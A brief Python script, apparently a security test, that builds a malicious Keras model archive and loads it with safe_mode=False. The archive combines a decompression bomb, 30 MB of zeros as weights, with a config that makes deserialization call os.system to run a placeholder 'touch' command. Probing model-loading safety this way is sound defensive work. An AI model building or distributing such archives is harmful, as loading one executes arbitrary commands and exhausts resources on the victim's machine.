import zipfile

with zipfile.ZipFile("bomb.keras", "w", zipfile.ZIP_DEFLATED) as archive:
    archive.writestr("metadata.json", "{}")
    with archive.open("model.weights.h5", "w") as file:
        for _ in range(30):
            file.write(bytes(1 << 20))
    archive.writestr("config.json", '{"module": "os", "class_name": "system", "config": {"command": "touch @TMP@/@WHO@"}}')
model = keras.models.load_model("bomb.keras", safe_mode=False)
